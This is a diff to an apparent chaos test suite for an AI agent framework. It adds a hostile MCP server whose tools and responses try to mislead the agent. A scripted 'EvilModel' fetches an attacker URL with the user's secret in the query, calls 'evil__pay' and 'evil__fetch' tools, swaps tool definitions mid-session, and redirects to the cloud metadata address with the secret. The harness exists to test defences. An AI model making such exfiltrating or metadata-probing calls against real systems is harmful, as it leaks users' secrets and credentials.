@@ -11,6 +11,8 @@ from typing import Any
 
 from aiohttp import web
 from tests.chaos.findings import Findings
+from tests.proofs import evil_mcp
+from tests.proofs.evil_mcp import EvilMcp, approve_tools
 from tests.server.receivers import Receiver, receiving
 
 from palaver import InvalidInput, Tool, tool
@@ -22,9 +24,10 @@ from palaver.config.settings import (
     Settings,
 )
 from palaver.engine import ChatMessage, GenerationRequest, ToolCall
-from palaver.messages import Asked, Message, ToolCalled
+from palaver.messages import Approval, Asked, Message, ToolCalled
 from palaver.testing import ChatClient, ScriptedEngine, ScriptedReply, converse
 from palaver.testing.engine import tool_call
+from palaver_plugins.tools.mcp.source import McpSource
 from palaver_plugins.tools.web import fetch
 from palaver_skills.agent import Agent
 
@@ -33,6 +36,8 @@ RESULT_BYTES = 2_000
 SECONDS = 0.3
 """Limits of an answer: a hostile tool never returns in some episodes."""
 MAX_TURNS = 4
+MCP_SHARE = 10
+"""Of so many episodes one has tools of a hostile MCP server."""
 HUGE = 50_000
 OFFERED = ("lookup", "notes", "send", "pay", "fetch")
 MARK = "Stranger: "
@@ -58,6 +63,8 @@ class World:
     """Whether the model had seen text of strangers in the turn when it was asked last."""
     generations: int = 0
     effects: int = 0
+    has_mcp: bool = False
+    """Whether the model has tools of a hostile MCP server."""
 
     @property
     def secret(self) -> str:
@@ -120,7 +127,7 @@ def make_tools(world: World) -> list[Tool]:
     async def lookup(query: str = "") -> str:
         """Look something up at a stranger's."""
         chance = world.rng.random()
-        if chance < 0.02:
+        if chance < 0.01:
             await asyncio.Event().wait()
         if chance < 0.2:
             raise InvalidInput(world.hostile_text())
@@ -165,6 +172,7 @@ class EvilModel:
         world.model_saw_untrusted = _has_untrusted(request)
         self._check_prompt(request)
         rng = world.rng
+        self._check_tools(request)
         if not request.tools or rng.random() < 0.2:
             return ScriptedReply(text=self._text())
         calls = tuple(self._call() for _ in range(rng.choice((1, 1, 1, 2, 3, 12))))
@@ -175,6 +183,9 @@ class EvilModel:
 
     def _call(self) -> ToolCall:
         world, rng = self._world, self._world.rng
+        if world.has_mcp and rng.random() < 0.5:
+            name = rng.choice((*evil_mcp.TOOLS, "evil__pay", "evil__fetch"))
+            return tool_call(name, q=rng.choice(("a", "b", world.secret)))
         page = f"{world.evil.url()}/{world.name}/"
         url = rng.choice((page, f"{page}?q={world.secret}", f"{page}#{world.secret}"))
         makers: Sequence[Callable[[], ToolCall]] = (
@@ -194,13 +205,24 @@ class EvilModel:
         return rng.choice(makers)()
 
     def _check_prompt(self, request: GenerationRequest) -> None:
+        names = {call.id: call.name for it in request.messages for call in it.tool_calls}
         for message in request.messages:
             if message.role == "tool":
-                self._check_result(message)
+                self._check_result(message, names.get(message.tool_call_id, ""))
+            if message.role == "system" and self._world.secret in message.content:
+                self._world.violate("the system text has words of a stranger")
 
-    def _check_result(self, message: ChatMessage) -> None:
+    def _check_tools(self, request: GenerationRequest) -> None:
+        for offered in request.tools:
+            text, longest = offered.description, evil_mcp.DESCRIPTION_CHARACTERS
+            if offered.name in evil_mcp.TOOLS and (len(text) > longest or not text.isprintable()):
+                self._world.violate(f"{offered.name} has the description {text[:400]!r}")
+
+    def _check_result(self, message: ChatMessage, name: str) -> None:
         content = message.content
-        if len(content.encode()) > 2 * RESULT_BYTES + 500:
+        is_foreign = name in evil_mcp.TOOLS
+        limit = evil_mcp.RESULT_CHARACTERS if is_foreign else 2 * RESULT_BYTES
+        if len(content if is_foreign else content.encode()) > limit + 500:
             self._world.violate(f"the model gets a result of {len(content)} characters")
         for token in CONTROL_TOKENS:
             if token in content:
@@ -233,6 +255,9 @@ class Rig:
     steps: int = STEPS
     result_bytes: int = RESULT_BYTES
     fetches_everything: bool = False
+    mcp_share: int = MCP_SHARE
+    mcp: Mapping[str, Any] = dataclasses.field(default_factory=dict)
+    """Settings of the hostile MCP server that differ."""
     change_tool: Callable[[Tool], Tool] = lambda tool: tool
 
 
@@ -242,10 +267,17 @@ async def run_episode(
     """Run one episode, and record what is wrong with it."""
     rng = random.Random(f"{seed} {number}")
     world = World(rng, findings, f"{number}", evil, is_open=rng.random() < 0.5)
-    evil.respond = _respond(world)
+    mcp = EvilMcp(world) if number % rig.mcp_share == 0 else None
+    world.has_mcp = mcp is not None
+    source = mcp.make_source(**rig.mcp) if mcp else None
+    evil.respond = _respond(world, mcp)
     settings = Settings(
         agents=AgentSettings(
-            steps=rig.steps, seconds=SECONDS, result_bytes=rig.result_bytes, calls=20
+            tools=(*rig.offered, *(evil_mcp.TOOLS if mcp else ())),
+            steps=rig.steps,
+            seconds=SECONDS,
+            result_bytes=rig.result_bytes,
+            calls=20,
         ),
         fetch=FetchSettings(
             enabled=True,
@@ -261,19 +293,29 @@ async def run_episode(
         Agent,
         engine=ScriptedEngine(EvilModel(world), context_window=200_000),
         tools=list(tools.values()),
+        tool_sources=[source] if source else [],
         settings=settings,
-        skill_settings={"tools": rig.offered},
         thread=world.name,
     ) as chat:
-        await _talk(world, chat, tools)
+        if source is not None:
+            await approve_tools(source)
+        await _talk(world, chat, tools, mcp, source)
     return world
 
 
-async def _talk(world: World, chat: ChatClient, tools: Mapping[str, Tool]) -> None:
+async def _talk(
+    world: World,
+    chat: ChatClient,
+    tools: Mapping[str, Tool],
+    mcp: EvilMcp | None,
+    source: McpSource | None,
+) -> None:
     """Talk as a careless person does, while a guest of the conversation answers, too."""
     page = f"{world.evil.url()}/{world.name}/"
     question: Asked | None = None
     for _ in range(MAX_TURNS):
+        if mcp and source and not mcp.has_changed and world.rng.random() < 0.2:
+            await mcp.change(source)
         text = f"Read {page} and tell me. My {world.secret} stays here."
         if question is None:
             world.approved.clear()
@@ -282,10 +324,8 @@ async def _talk(world: World, chat: ChatClient, tools: Mapping[str, Tool]) -> No
             if world.rng.random() < 0.2:
                 await _answer_as_guest(world, chat)
             if text in (APPROVE, "1"):
-                approval = question.approval
-                assert approval
-                tool = tools[approval.tool]
-                world.approved[call_key(tool.name, tool.validate(approval.arguments))] += 1
+                assert question.approval
+                world.approved[_approved_key(question.approval, tools)] += 1
         before = world.generations
         reply = await chat.say(text)
         if world.generations - before > STEPS + 1:
@@ -296,6 +336,13 @@ async def _talk(world: World, chat: ChatClient, tools: Mapping[str, Tool]) -> No
             if isinstance(event, ToolCalled) and len(event.result) > 1_000:
                 world.violate("an event holds a long result")
         question = reply.question
+
+
+def _approved_key(approval: Approval, tools: Mapping[str, Tool]) -> str:
+    arguments = approval.arguments
+    if approval.tool in tools:
+        arguments = tools[approval.tool].validate(arguments)
+    return call_key(approval.tool, arguments)
 
 
 async def _answer_as_guest(world: World, chat: ChatClient) -> None:
@@ -314,14 +361,16 @@ async def _answer_as_guest(world: World, chat: ChatClient) -> None:
     world.approved, world.model_saw_untrusted = kept
 
 
-def _respond(world: World) -> Callable[[web.BaseRequest], Any]:
+def _respond(world: World, mcp: EvilMcp | None) -> Callable[[web.BaseRequest], Any]:
     async def respond(request: web.BaseRequest) -> web.StreamResponse:
+        if mcp is not None and request.path == mcp.path:
+            return await mcp.respond(request)
         world.check_request(str(request.rel_url))
         chance = world.rng.random()
         if chance < 0.1:
             location = f"http://169.254.169.254/{world.secret}"
             return web.Response(status=302, headers={"Location": location})
-        if chance < 0.12:
+        if chance < 0.11:
             await asyncio.Event().wait()
         return web.Response(text=world.hostile_text().encode("utf-8", "replace").decode())
 
